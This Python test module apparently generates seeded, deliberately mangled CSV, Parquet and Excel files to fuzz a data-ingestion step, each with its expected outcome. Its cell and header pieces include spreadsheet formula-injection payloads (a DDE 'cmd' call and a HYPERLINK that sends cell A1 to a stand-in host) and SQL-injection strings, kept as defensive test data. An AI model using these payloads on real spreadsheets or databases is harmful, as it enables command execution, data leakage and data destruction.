"""Seeded files as no source system should write them, each with what must become of it at the door.

A kind is a function from a seeded writer to what it wrote; :func:`make` calls the one that a plan names. The same
kind and seed give the same bytes, so a finding is repeated by
``python -m tests.door.fuzz_worker --kind open_quote --seed 17``.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import random
import unicodedata
import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow
import pyarrow.parquet

from drivetrain.contract import Table, load_contract

DAY = "2026-01-06"

LANDED, REFUSED, NOT_READ = "landed", "refused", "not read"

# what stands in cells: everything that has ever gone through an export, and what a spreadsheet would run
PIECES = (
    *(
        "一汽大众",
        "上海市浦东新区",
        "张伟",
        "北京䶮仓",
        "ＡＢ１２",
        "（甲）",
        "１３８",
        "㎡",
        "㈱",
        "ﾃﾞｰﾀ",
        "ﷺ",
        "é",
        "e\u0301",
    ),
    *("😀", "👨\u200d👩\u200d👧", "🇨🇳", "\u00a0", "\u3000", "\u200b", "\u202e", "\ufffd", "\U0010fffd", "ß", "İ", "ǆ"),
    *('x"y', '"', '""', "O'Brien", "a,b", "a;b", "a|b", "a\tb", "\\", "\\N", "\\n", "/", "%s", "{}", "{{ x }}", "$$"),
    *("=1+1", "=cmd|' /C calc'!A0", "+86 138", "-1", "@SUM(A1)", "#N/A", "#REF!", "'=1", '=HYPERLINK("x")'),
    *(
        "0",
        "1.0",
        "1e5",
        "00012",
        "-0",
        "NaN",
        "null",
        "NULL",
        "None",
        "true",
        "1900-01-00",
        "46027.5",
        "1,234.50",
        "￥5",
    ),
    *("  lead", "trail  ", " ", "", "'; drop table x; --", "<b>", "&amp;", "--", "/*", "_x000D_", "a" * 300),
)


@dataclass
class Mangled:
    """What a kind wrote and what must hold: how it may end, and which rows the raw zone must then show."""

    outcomes: tuple[str, ...]
    path: Path | None = None
    rows: list[dict[str, str | None]] | None = None  # cells by column; None where the kind cannot know them
    count: int | None = None  # landed rows, total rows included
    tokens: list[str] = field(default_factory=list)  # texts that must be found among the landed ones
    told: str = ""  # what the output must say of a file that is not read; empty: nothing
    remedy: bool = True  # whether a refusal must name a file of the landing folder
    files: int = 1  # files that land


class Writer:
    """A table of the contract, rows for it, and the folder to write them to."""

    def __init__(self, landing: Path, seed: int):
        self.random = random.Random(seed)
        self.seed = seed
        self.landing = landing
        self.table: Table = self.random.choice(list(load_contract().values()))
        required = [column.name for column in self.table.columns if column.required]
        others = [column.name for column in self.table.columns if not column.required]
        self.columns = list(
            dict.fromkeys([*required, *self.table.key, *self.random.sample(others, min(3, len(others)))])
        )
        # the first one carries the token by which a row is found again
        self.columns = [self.table.key[0], *(c for c in self.columns if c != self.table.key[0])]

    @property
    def folder(self) -> Path:
        return self.landing / self.table.system / self.table.name / f"extract_date={DAY}"

    def cell(self) -> str:
        return "".join(self.random.choices(PIECES, k=self.random.randint(1, 3)))

    def token(self, number: int) -> str:
        return f"T{self.seed}R{number}E"

    def rows(self, count: int | None = None, cell: Callable[[], str] | None = None) -> list[dict[str, str]]:
        """Rows whose first cell is their token."""
        count = self.random.randint(1, 30) if count is None else count
        cell = cell or self.cell
        return [
            {column: self.token(number) if place == 0 else cell() for place, column in enumerate(self.columns)}
            for number in range(count)
        ]

    def header(self, columns: Iterable[str] | None = None) -> list[str]:
        """English or Chinese headers."""
        columns = self.columns if columns is None else list(columns)
        if self.random.random() < 0.5:
            return list(columns)
        return [self.table.column(column).zh for column in columns]

    def text(
        self,
        rows: list[dict[str, str]],
        header: list[str] | None = None,
        delimiter: str = ",",
        newline: str = "\n",
        quote_all: bool = False,
    ) -> str:
        """The rows as sound CSV."""
        out = io.StringIO(newline="")
        quoting = csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
        writer = csv.writer(out, delimiter=delimiter, lineterminator=newline, quoting=quoting)
        writer.writerow(self.header() if header is None else header)
        writer.writerows([row[column] for column in self.columns] for row in rows)
        return out.getvalue()

    def put(self, content: str | bytes, name: str = "mangled.csv") -> Path:
        self.folder.mkdir(parents=True, exist_ok=True)
        path = self.folder / name
        path.write_bytes(content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content)
        return path


def as_landed(text: str | None) -> str | None:
    """A cell as the raw zone must show it (ruling L8): NFKC, without NUL, the empty text as null."""
    return unicodedata.normalize("NFKC", text.replace("\0", "")) or None if text is not None else None


def exactly(writer: Writer, path: Path, rows: list[dict[str, str]], **more: object) -> Mangled:
    """The file lands and the raw zone shows these rows, cell by cell."""
    landed = [{column: as_landed(row[column]) for column in writer.columns if column in row} for row in rows]
    return Mangled((LANDED,), path, landed, len(rows), **more)


def every_row(writer: Writer, path: Path, rows: list[dict[str, str]], *outcomes: str) -> Mangled:
    """Where the file lands it has this many rows, and each can be found again."""
    tokens = [row[writer.columns[0]] for row in rows]
    return Mangled(outcomes or (LANDED,), path, None, len(rows), tokens)


def refused(path: Path) -> Mangled:
    return Mangled((REFUSED,), path)


KINDS: dict[str, Callable[[Writer], Mangled]] = {}
HEAVY: set[str] = set()


def kind(function: Callable[[Writer], Mangled]) -> Callable[[Writer], Mangled]:
    KINDS[function.__name__] = function
    return function


def heavy(function: Callable[[Writer], Mangled]) -> Callable[[Writer], Mangled]:
    """A kind that takes a second or more."""
    HEAVY.add(function.__name__)
    return kind(function)


def plan(count: int, first_seed: int = 0) -> list[tuple[str, int]]:
    """Kinds and seeds of ``count`` files: every kind at least once, heavy ones once in 500."""
    heavies = sorted(HEAVY) * max(1, count // 500)
    light = sorted(set(KINDS) - HEAVY)
    names = [*heavies, *(light[place % len(light)] for place in range(max(count - len(heavies), 0)))]
    return [(name, first_seed + place) for place, name in enumerate(names[:count])]


def make(landing: Path, name: str, seed: int) -> Mangled:
    """Writes one mangled file, or one oddity of the folder, below ``landing``."""
    return KINDS[name](Writer(landing, seed))


# --- encodings ------------------------------------------------------------------------------------------------------


@kind
def sound(writer: Writer) -> Mangled:
    rows = writer.rows()
    return exactly(writer, writer.put(writer.text(rows, quote_all=writer.random.random() < 0.5)), rows)


@kind
def sound_with_byte_order_mark(writer: Writer) -> Mangled:
    rows = writer.rows()
    text = writer.text(rows, quote_all=writer.random.random() < 0.5)
    return exactly(writer, writer.put(text.encode("utf-8-sig")), rows)


@kind
def gb18030(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "库存" + writer.cell())
    return exactly(writer, writer.put(writer.text(rows).encode("gb18030")), rows)


@kind
def big5(writer: Writer) -> Mangled:
    cells = ("許功蓋", "臺北", "庫存", "豐田", "a,b", "x")
    rows = writer.rows(cell=lambda: "".join(writer.random.choices(cells, k=2)))
    path = writer.put(writer.text(rows, header=writer.columns).encode("big5"))
    return every_row(writer, path, rows, LANDED, REFUSED)


@kind
def utf_16_with_byte_order_mark(writer: Writer) -> Mangled:
    codec = writer.random.choice(("utf-16-le", "utf-16-be", "utf-32-le"))
    return refused(writer.put(("\ufeff" + writer.text(writer.rows())).encode(codec)))


@kind
def utf_16_without_byte_order_mark(writer: Writer) -> Mangled:
    codec = writer.random.choice(("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"))
    return refused(writer.put(writer.text(writer.rows()).encode(codec)))


@kind
def utf_16_without_byte_order_mark_plain(writer: Writer) -> Mangled:
    codec = writer.random.choice(("utf-16-le", "utf-16-be"))
    text = writer.text(writer.rows(cell=lambda: "plain"), header=writer.columns)
    return refused(writer.put(text.encode(codec)))


@kind
def mixed_encodings(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "库存" + writer.random.choice(PIECES[:3]))
    lines = writer.text(rows).splitlines(keepends=True)
    content = b"".join(line.encode(writer.random.choice(("utf-8", "gb18030"))) for line in lines)
    return every_row(writer, writer.put(content), rows, LANDED, REFUSED)


@kind
def broken_bytes(writer: Writer) -> Mangled:
    """Bytes that no encoding has, within cells of a file that is UTF-8 for the rest."""
    rows = writer.rows(cell=lambda: "库存甲" + writer.random.choice(("", "\x00", "丙")))
    content = bytearray(writer.text(rows, header=[writer.table.column(c).zh for c in writer.columns]).encode())
    first_line = content.index(b"\n")
    for _ in range(writer.random.randint(1, 8)):
        places = [place for place in range(first_line, len(content)) if content[place] == 0xE7]
        if places:
            content[writer.random.choice(places)] = writer.random.choice((0x80, 0xC0, 0xED, 0xF5, 0xFE, 0xFF))
    return every_row(writer, writer.put(bytes(content)), rows)


@kind
def broken_bytes_in_plain_text(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "plain")
    content = bytearray(writer.text(rows, header=writer.columns).encode())
    for _ in range(writer.random.randint(1, 4)):
        place = writer.random.randrange(content.index(b"\n"), len(content))
        content[place:place] = writer.random.choice((b"\x80", b"\xff\xfe", b"\xc3", b"\xe4\xb8", b"\xed\xa0\x80"))
    return Mangled((LANDED, REFUSED), writer.put(bytes(content)))


@kind
def cut_within_a_character(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "库存甲乙")
    content = writer.text(rows).encode().rstrip()
    return every_row(writer, writer.put(content[: -writer.random.choice((1, 2))]), rows)


@kind
def several_byte_order_marks(writer: Writer) -> Mangled:
    rows = writer.rows()
    path = writer.put("\ufeff\ufeff" + writer.text(rows, quote_all=True))
    return every_row(writer, path, rows, LANDED, REFUSED)


@kind
def latin_1(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "Müller é")
    path = writer.put(writer.text(rows, header=writer.columns).encode("latin-1"))
    return every_row(writer, path, rows, LANDED, REFUSED)


@kind
def characters_that_nfkc_changes(writer: Writer) -> Mangled:
    span = writer.random.randrange(0x80, 0x1F000)
    characters = "".join(chr(p) for p in range(span, span + 4000) if not 0xD800 <= p < 0xE000 and p != 0xFEFF)
    rows = writer.rows(count=writer.random.randint(1, 4), cell=lambda: characters)
    return exactly(writer, writer.put(writer.text(rows)), rows)


# --- quotes ---------------------------------------------------------------------------------------------------------


def opened(writer: Writer, where: Callable[[list[str]], list[int]]) -> Mangled:
    rows = writer.rows(count=writer.random.randint(3, 30), cell=lambda: writer.random.choice(("a", "中", "1.5", "x y")))
    lines = [[row[column] for column in writer.columns] for row in rows]
    for number in where(list(map(str, range(len(lines))))):
        place = writer.random.randrange(1, len(writer.columns))
        lines[number][place] = '"' + lines[number][place]
    text = "\n".join([",".join(writer.header()), *map(",".join, lines)]) + "\n"
    return every_row(writer, writer.put(text), rows, LANDED, REFUSED)


@kind
def open_quote(writer: Writer) -> Mangled:
    return opened(writer, lambda lines: [writer.random.randrange(len(lines))])


@kind
def open_quotes(writer: Writer) -> Mangled:
    """Two cells open a quote; what stands between them must not vanish in one cell."""
    return opened(writer, lambda lines: sorted(writer.random.sample(range(len(lines)), 2)))


@kind
def open_quote_before_sound_ones(writer: Writer) -> Mangled:
    rows = writer.rows(count=writer.random.randint(3, 12), cell=lambda: writer.random.choice(("a", "中", "1.5")))
    victim = writer.random.randrange(len(rows) - 1)
    lines = []
    for number, row in enumerate(rows):
        cells = [row[writer.columns[0]], *(f'"{row[column]}"' for column in writer.columns[1:])]
        if number == victim:
            place = writer.random.randrange(1, len(cells))
            cells[place] = cells[place][:-1]
        lines.append(",".join(cells))
    path = writer.put("\n".join([",".join(writer.header()), *lines]) + "\n")
    return every_row(writer, path, rows, LANDED, REFUSED)


@kind
def stray_quotes(writer: Writer) -> Mangled:
    pieces = ('5"', '"a"b', 'a"b"', '""a', 'a""', '"a""', '"a" ', "''", 'a"', '"",')
    rows = writer.rows(cell=lambda: "x")
    lines = [
        ",".join([row[writer.columns[0]], *(writer.random.choice(pieces).rstrip(",") for _ in writer.columns[1:])])
        for row in rows
    ]
    path = writer.put("\n".join([",".join(writer.header()), *lines]) + "\n")
    tokens = [row[writer.columns[0]] for row in rows]
    return Mangled((LANDED, REFUSED), path, None, None, tokens)


@kind
def quotes_after_blanks(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "x")
    lines = [", ".join([row[writer.columns[0]], *(f'"{row[c]}"' for c in writer.columns[1:])]) for row in rows]
    path = writer.put("\n".join([", ".join(writer.header()), *lines]) + "\n")
    return every_row(writer, path, rows)


@kind
def quoted_line_ends(writer: Writer) -> Mangled:
    ends = ("\n", "\r\n", "\r", "\n\n", "\r\n\r\n")
    rows = writer.rows(cell=lambda: writer.cell() + writer.random.choice(ends) + writer.cell())
    newline = writer.random.choice(("\n", "\r\n", "\r"))
    return exactly(writer, writer.put(writer.text(rows, newline=newline, quote_all=True)), rows)


@kind
def quoted_header_of_several_lines(writer: Writer) -> Mangled:
    rows = writer.rows()
    writer_header = [*writer.columns, "remark\nof the\nshop"]
    lines = [{**row, "remark": writer.cell()} for row in rows]
    columns = writer.columns
    writer.columns = [*columns, "remark"]
    text = writer.text(lines, header=writer_header, quote_all=True)
    writer.columns = columns
    return exactly(writer, writer.put(text), rows)


# --- NUL, control characters, formulas ------------------------------------------------------------------------------


@kind
def nul_bytes(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: writer.random.choice(("\0", "a\0b", "\0\0\0x", "plain", "中\0")))
    return exactly(writer, writer.put(writer.text(rows)), rows)


@kind
def nothing_but_nul(writer: Writer) -> Mangled:
    return refused(writer.put(b"\0" * writer.random.randint(1, 5000)))


@kind
def nul_after_the_rows(writer: Writer) -> Mangled:
    """What a crash of the sender leaves: space that was never written."""
    rows = writer.rows()
    path = writer.put(writer.text(rows).encode() + b"\0" * writer.random.randint(1, 300_000))
    return exactly(writer, path, rows)


@kind
def control_characters(writer: Writer) -> Mangled:
    controls = [chr(p) for p in (*range(1, 9), 11, 12, *range(14, 32), 0x7F, 0x85, 0x2028, 0x2029, 0xFFF9)]
    rows = writer.rows(cell=lambda: "a" + writer.random.choice(controls) + "b" + writer.random.choice(controls))
    return exactly(writer, writer.put(writer.text(rows)), rows)


@kind
def formula_cells(writer: Writer) -> Mangled:
    starts = ("=", "+", "-", "@", "\t=", "'=")
    ends = ("cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1)', "1+1", "SUM(A1:A9)", "A1", "")
    rows = writer.rows(cell=lambda: writer.random.choice(starts) + writer.random.choice(ends))
    return exactly(writer, writer.put(writer.text(rows)), rows)


# --- shape ----------------------------------------------------------------------------------------------------------


@kind
def mixed_line_ends(writer: Writer) -> Mangled:
    rows = writer.rows(count=writer.random.randint(3, 40))
    lines = writer.text(rows).split("\n")[:-1]
    text = "".join(line + writer.random.choice(("\n", "\r\n", "\r", "\n\n", "\r\r\n")) for line in lines)
    return exactly(writer, writer.put(text), rows)


@kind
def many_line_ends_mixed_late(writer: Writer) -> Mangled:
    """Thousands of rows of one kind before the other comes."""
    rows = writer.rows(count=writer.random.randint(2500, 6000), cell=lambda: writer.random.choice(("a", "中", "1.5")))
    lines = writer.text(rows).split("\n")[:-1]
    ends = ["\n"] * len(lines)
    for _ in range(3):
        ends[writer.random.randrange(2100, len(ends))] = writer.random.choice(("\r\n", "\r"))
    return exactly(writer, writer.put("".join(map("".join, zip(lines, ends, strict=True)))), rows)


@kind
def other_delimiters(writer: Writer) -> Mangled:
    rows = writer.rows()
    text = writer.text(rows, delimiter=writer.random.choice(";\t|"), quote_all=writer.random.random() < 0.5)
    return exactly(writer, writer.put(text), rows)


@kind
def unknown_delimiters(writer: Writer) -> Mangled:
    text = writer.text(writer.rows(cell=lambda: "x"), delimiter=writer.random.choice("^~:\x01 \x1f"))
    return refused(writer.put(text))


@kind
def delimiter_that_changes(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "x")
    first, *rest = writer.text(rows).split("\n")
    return every_row(writer, writer.put("\n".join([first, *(line.replace(",", ";") for line in rest)])), rows)


@kind
def first_line_that_names_the_delimiter(writer: Writer) -> Mangled:
    return Mangled((LANDED, REFUSED), writer.put("sep=,\n" + writer.text(writer.rows())))


@kind
def title_above_the_header(writer: Writer) -> Mangled:
    return Mangled((LANDED, REFUSED), writer.put("库存明细表\n\n" + writer.text(writer.rows())))


@kind
def ragged_rows(writer: Writer) -> Mangled:
    rows = writer.rows(count=writer.random.randint(3, 30), cell=lambda: writer.random.choice(("a", "", "中")))
    lines = writer.text(rows).split("\n")[:-1]
    for number in range(1, len(lines)):
        change = writer.random.choice(("", "", ",more", ",,,,", ",x" * 40, "short"))
        lines[number] = lines[number].split(",")[0] if change == "short" else lines[number] + change
    return every_row(writer, writer.put("\n".join(lines)), rows)


@kind
def swapped_columns(writer: Writer) -> Mangled:
    rows = writer.rows()
    order = writer.random.sample(writer.columns, len(writer.columns))
    columns, writer.columns = writer.columns, order
    text = writer.text(rows, header=writer.header(order))
    writer.columns = columns
    return exactly(writer, writer.put(text), rows)


@kind
def swapped_cells(writer: Writer) -> Mangled:
    rows = writer.rows()
    for row in rows:
        one, other = writer.random.sample(writer.columns, 2)
        row[one], row[other] = row[other], row[one]
    return exactly(writer, writer.put(writer.text(rows)), rows)


@kind
def known_column_twice(writer: Writer) -> Mangled:
    twice = writer.random.choice(writer.columns)
    again = writer.random.choice((twice, twice.upper(), f" {twice} ", writer.table.column(twice).zh))
    return refused(writer.put(writer.text(writer.rows(), header=[*writer.header(), again])))


@kind
def unknown_columns_twice(writer: Writer) -> Mangled:
    """Unknown headers, the same ones again, and rows that do not fit: each cell can be found again."""
    rows = writer.rows(count=5, cell=lambda: "x")
    titles = writer.random.choice((["备注", "备注"], ["", ""], ["a", "A"], ["_surplus", "_surplus"], ["c0", "_row"]))
    lines = [",".join([*writer.header(), *titles])]
    tokens = []
    for number, row in enumerate(rows):
        extra = [f"U{writer.seed}N{number}E", f"V{writer.seed}N{number}E"]
        cells = [*(row[column] for column in writer.columns), *extra]
        if number % 2:
            cells.append(f"W{writer.seed}N{number}E")
            tokens += cells[-3:]
        lines.append(",".join(cells))
    path = writer.put("\n".join(lines))
    mangled = every_row(writer, path, rows)
    mangled.tokens += tokens
    return mangled


@kind
def odd_headers(writer: Writer) -> Mangled:
    odd = (
        "'; drop table raw; --",
        'a"b',
        "{{ ref('x') }}",
        "%s%n",
        "a" * 5000,
        "\x1b[31m",
        "\u202e",
        "select",
        "\\",
        "=1+1",
    )
    rows = writer.rows()
    title = writer.random.choice(odd)
    lines = [{**row, title: writer.cell()} for row in rows]
    columns, writer.columns = writer.columns, [title, *writer.columns]
    text = writer.text(lines, header=[title, *writer.header(columns)])
    writer.columns = columns
    return exactly(writer, writer.put(text), rows)


@kind
def no_header(writer: Writer) -> Mangled:
    text = writer.text(writer.rows()).split("\n", 1)[1]
    return refused(writer.put(text))


@kind
def header_without_a_required_column(writer: Writer) -> Mangled:
    required = [c.name for c in writer.table.columns if c.required]
    columns = [c for c in writer.columns if c != writer.random.choice(required)] or ["备注"]
    columns = columns if set(required) - set(columns) else ["备注"]
    return refused(writer.put(",".join(columns) + "\n" + ",".join("x" for _ in columns) + "\n"))


@kind
def header_alone(writer: Writer) -> Mangled:
    text = writer.text([]).rstrip("\n") + writer.random.choice(("", "\n", "\r\n", "\n\n\n", "\r"))
    return exactly(writer, writer.put(text), [])


@kind
def no_bytes(writer: Writer) -> Mangled:
    path = writer.put(b"", writer.random.choice(("mangled.csv", "mangled.parquet", "mangled.xlsx")))
    return Mangled((NOT_READ,), path, told=path.name)


@kind
def hardly_any_bytes(writer: Writer) -> Mangled:
    content = writer.random.choice(
        (
            b"\n",
            b" ",
            b"\xef\xbb\xbf",
            b"\xef\xbb\xbf\r\n",
            b"\r\n\r\n",
            b'"',
            b",",
            b"\xff",
            b"\xfe\xff",
            b"\0",
            b"x",
            b'""',
        )
    )
    return refused(writer.put(content, writer.random.choice(("mangled.csv", "mangled.parquet", "mangled.xlsx"))))


@kind
def total_rows(writer: Writer) -> Mangled:
    rows = writer.rows(cell=lambda: "1.5")
    # a total stands under numbers, which need not be there
    filled = ["" if writer.table.column(column).required else "9" for column in writer.columns[1:]]
    totals = [",".join([word, *filled]) for word in ("合计", "总 计", "Grand total", "小计：")]
    lines = writer.text(rows).split("\n")[:-1]
    chosen = writer.random.sample(totals, writer.random.randint(1, 4))
    return Mangled((LANDED,), writer.put("\n".join([*lines, *chosen])), None, len(rows) + len(chosen),
                   [row[writer.columns[0]] for row in rows])  # fmt: skip


@kind
def random_bytes(writer: Writer) -> Mangled:
    content = writer.random.randbytes(writer.random.randint(1, 20_000))
    return refused(writer.put(content, writer.random.choice(("mangled.csv", "mangled.parquet", "mangled.xlsx"))))


@kind
def random_edits(writer: Writer) -> Mangled:
    """Bytes of a sound file replaced, taken out, doubled: nothing is known but that it ends in order."""
    content = bytearray(writer.text(writer.rows(), quote_all=writer.random.random() < 0.5).encode())
    for _ in range(writer.random.randint(1, 20)):
        place = writer.random.randrange(len(content))
        edit = writer.random.choice(("replace", "remove", "double"))
        if edit == "replace":
            content[place] = writer.random.choice(b'",\n\r\0;|\t\\\x80\xff' + b"a")
        elif edit == "remove":
            del content[place : place + writer.random.randint(1, 20)]
        else:
            content[place:place] = content[place : place + writer.random.randint(1, 200)]
        content = content or bytearray(b"x")
    return Mangled((LANDED, REFUSED), writer.put(bytes(content)))


# --- size -----------------------------------------------------------------------------------------------------------


@heavy
def field_of_tens_of_megabytes(writer: Writer) -> Mangled:
    rows = writer.rows(count=2, cell=lambda: "x")
    rows[0][writer.columns[-1]] = writer.random.choice(("a", "中")) * writer.random.randint(18_000_000, 40_000_000)
    return refused(writer.put(writer.text(rows, quote_all=writer.random.random() < 0.5)))


@heavy
def field_of_some_megabytes(writer: Writer) -> Mangled:
    rows = writer.rows(count=3, cell=lambda: "x")
    rows[1][writer.columns[-1]] = writer.random.choice(("a", "中", "ａ")) * writer.random.randint(1_000_000, 2_000_000)
    return exactly(writer, writer.put(writer.text(rows)), rows)


@heavy
def line_without_end(writer: Writer) -> Mangled:
    filling = writer.random.choice((b"x", b"\0", "库".encode("gb18030"), b"\x01"))
    size = writer.random.randint(40_000_000, 120_000_000)
    return refused(writer.put(writer.text(writer.rows(3)).encode() + filling * (size // len(filling))))


@heavy
def quote_without_end(writer: Writer) -> Mangled:
    """A quote that opens in the second row of a file of tens of megabytes."""
    rows = writer.rows(count=2, cell=lambda: "x")
    first = writer.text(rows)
    line = ",".join(["x" * 50] * len(writer.columns)) + "\n"
    return refused(writer.put(first + '"' + line * (40_000_000 // len(line))))


@heavy
def record_of_many_large_cells(writer: Writer) -> Mangled:
    rows = writer.rows(count=1, cell=lambda: "x")
    path = writer.put(writer.text(rows) + ",".join(["y" * 9_000_000] * 12) + "\n")
    return refused(path)


@heavy
def a_million_columns(writer: Writer) -> Mangled:
    titles = writer.random.choice(("", "a", "备注"))
    text = ",".join([*writer.columns, *(titles and f"{titles}{n}" for n in range(1_000_000))])
    return refused(writer.put(f"{text}\n" + ",".join(["x"] * (1_000_000 + len(writer.columns))) + "\n"))


@heavy
def thousands_of_columns(writer: Writer) -> Mangled:
    rows = writer.rows(count=20, cell=lambda: "x")
    wide = [f"u{number}" for number in range(writer.random.randint(1000, 3000))]
    lines = [",".join([*writer.columns, *wide])]
    lines += [",".join([*(row[c] for c in writer.columns), *wide]) for row in rows]
    path = writer.put("\n".join(lines))
    mangled = exactly(writer, path, rows)
    mangled.outcomes = (LANDED, REFUSED)
    return mangled


@heavy
def header_of_megabytes(writer: Writer) -> Mangled:
    rows = writer.rows(count=2, cell=lambda: "x")
    header = [*writer.columns[:-1], "h" * 6_000_000, writer.columns[-1]]
    lines = [",".join(header), *(",".join([*(row[c] for c in writer.columns[:-1]), "x", "x"]) for row in rows)]
    return every_row(writer, writer.put("\n".join(lines)), rows, LANDED, REFUSED)


@heavy
def a_million_empty_lines(writer: Writer) -> Mangled:
    rows = writer.rows(count=20)
    lines = writer.text(rows).split("\n")[:-1]
    place = writer.random.randrange(len(lines))
    before, after = ("\n".join(part) for part in (lines[:place], lines[place:]))
    blank = writer.random.choice(("\n", "\r\n", "  \n"))
    return exactly(writer, writer.put(f"{before}\n{blank * 1_000_000}{after}"), rows)


@heavy
def a_hundred_thousand_rows(writer: Writer) -> Mangled:
    """Sound for long, then one row that is not: the file is read again row by row, and none is lost."""
    rows = writer.rows(count=100_000, cell=lambda: "中")
    text = writer.text(rows)
    return every_row(
        writer, writer.put(text + f"{writer.token(100_000)}\n"), [*rows, {writer.columns[0]: writer.token(100_000)}]
    )


# --- one format under the name of another, cut short, packed --------------------------------------------------------


def parquet_bytes(writer: Writer, rows: list[dict[str, str]], **more: object) -> bytes:
    out = io.BytesIO()
    columns = {column: [row[column] for row in rows] for column in writer.columns}
    pyarrow.parquet.write_table(pyarrow.table(columns), out, **more)
    return out.getvalue()


def workbook_bytes(writer: Writer, rows: list[dict[str, object]]) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(writer.header())
    for row in rows:
        book.active.append([row[column] for column in writer.columns])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def plain_rows(writer: Writer) -> list[dict[str, str]]:
    """Rows whose cells a spreadsheet can hold."""
    cells = ("甲", "x y", "1.5", "ＡＢ", "'; --", "a\nb", "😀")
    return writer.rows(cell=lambda: writer.random.choice(cells))


@kind
def parquet(writer: Writer) -> Mangled:
    rows = writer.rows()
    compression = writer.random.choice(("none", "snappy", "gzip", "zstd", "lz4", "brotli"))
    content = parquet_bytes(writer, rows, compression=compression, row_group_size=writer.random.randint(1, 20))
    return exactly(writer, writer.put(content, "mangled.parquet"), rows)


@kind
def parquet_cut_short(writer: Writer) -> Mangled:
    content = parquet_bytes(writer, writer.rows())
    return refused(writer.put(content[: writer.random.randrange(1, len(content))], "mangled.parquet"))


@kind
def parquet_with_bytes_changed(writer: Writer) -> Mangled:
    content = bytearray(parquet_bytes(writer, writer.rows(), compression=writer.random.choice(("none", "zstd"))))
    for _ in range(writer.random.randint(1, 10)):
        content[writer.random.randrange(len(content))] = writer.random.randrange(256)
    return Mangled((LANDED, REFUSED), writer.put(bytes(content), "mangled.parquet"))


@kind
def parquet_of_odd_types(writer: Writer) -> Mangled:
    day = datetime(2026, 1, 5, 10, 20)
    values: list[pyarrow.Array] = [
        pyarrow.array([1, None, -(2**63)], pyarrow.int64()),
        pyarrow.array([2**64 - 1, None, 0], pyarrow.uint64()),
        pyarrow.array([1e308, float("nan"), float("-inf")]),
        pyarrow.array([1.5, None, 65504.0], pyarrow.float32()),
        pyarrow.array([Decimal("1.10"), None, Decimal("-" + "9" * 34)], pyarrow.decimal128(38, 4)),
        pyarrow.array([True, None, False]),
        pyarrow.array([day, None, datetime.max], pyarrow.timestamp("us")),
        pyarrow.array([day, None, day], pyarrow.timestamp("us", tz="Asia/Shanghai")),
        pyarrow.array([day, None, day], pyarrow.timestamp("ns")),
        pyarrow.array([date.min, None, date.max]),
        pyarrow.array([time(23, 59, 59), None, time()]),
        pyarrow.array([timedelta(days=1), None, timedelta(0)], pyarrow.duration("us")),
        pyarrow.array([b"\xff\xfe", None, "文".encode()], pyarrow.binary()),
        pyarrow.array([b"0123456789abcdef", None, b"\0" * 16], pyarrow.binary(16)),
        pyarrow.array([["a", None], None, []]),
        pyarrow.array([{"k": 1, "l": {"m": ["x"]}}, None, {"k": None, "l": None}]),
        pyarrow.array([[("k", 1)], None, []], pyarrow.map_(pyarrow.string(), pyarrow.int64())),
        pyarrow.array(["a", None, "a"]).dictionary_encode(),
        pyarrow.nulls(3),
    ]
    columns = {column: writer.random.choice(values) for column in writer.columns[1:]}
    table = pyarrow.table({writer.columns[0]: [writer.token(n) for n in range(3)], **columns})
    out = io.BytesIO()
    pyarrow.parquet.write_table(table, out)
    path = writer.put(out.getvalue(), "mangled.parquet")
    return every_row(writer, path, [{writer.columns[0]: writer.token(n)} for n in range(3)], LANDED, REFUSED)


@kind
def parquet_without_rows(writer: Writer) -> Mangled:
    return exactly(writer, writer.put(parquet_bytes(writer, []), "mangled.parquet"), [])


@kind
def parquet_that_is_text(writer: Writer) -> Mangled:
    return refused(writer.put(writer.text(writer.rows()), "mangled.parquet"))


@kind
def text_that_is_packed(writer: Writer) -> Mangled:
    rows = writer.rows()
    packed = gzip.compress(writer.text(rows).encode(), mtime=0)
    packed = packed[: writer.random.randrange(1, len(packed))] if writer.random.random() < 0.5 else packed
    content = writer.random.choice((packed, parquet_bytes(writer, rows), workbook_bytes(writer, plain_rows(writer))))
    return refused(writer.put(content))


@kind
def names_that_are_packed(writer: Writer) -> Mangled:
    packed = gzip.compress(writer.text(writer.rows()).encode(), mtime=0)
    path = writer.put(
        packed[: writer.random.randrange(1, len(packed))], writer.random.choice(("m.csv.gz", "m.gz", "m.zip"))
    )
    return Mangled((NOT_READ,), path, told=path.name)


@kind
def workbook(writer: Writer) -> Mangled:
    rows = plain_rows(writer)
    return exactly(writer, writer.put(workbook_bytes(writer, rows), "mangled.xlsx"), rows)


@kind
def workbook_of_odd_cells(writer: Writer) -> Mangled:
    odd = (
        "=1+1",
        "=cmd|' /C calc'!A0",
        "#N/A",
        True,
        12.5,
        10**16,
        datetime(2026, 1, 5),
        time(1, 2),
        None,
        "x" * 32_767,
    )
    rows = writer.rows(cell=lambda: writer.random.choice(odd))
    return every_row(writer, writer.put(workbook_bytes(writer, rows), "mangled.xlsx"), rows)


@kind
def workbook_cut_short(writer: Writer) -> Mangled:
    content = workbook_bytes(writer, plain_rows(writer))
    return refused(writer.put(content[: writer.random.randrange(1, len(content) - 22)], "mangled.xlsx"))


@kind
def workbook_with_bytes_changed(writer: Writer) -> Mangled:
    content = bytearray(workbook_bytes(writer, plain_rows(writer)))
    for _ in range(writer.random.randint(1, 10)):
        content[writer.random.randrange(len(content))] = writer.random.randrange(256)
    return Mangled((LANDED, REFUSED), writer.put(bytes(content), "mangled.xlsx"))


@kind
def workbook_that_is_text(writer: Writer) -> Mangled:
    return refused(writer.put(writer.text(writer.rows()), "mangled.xlsx"))


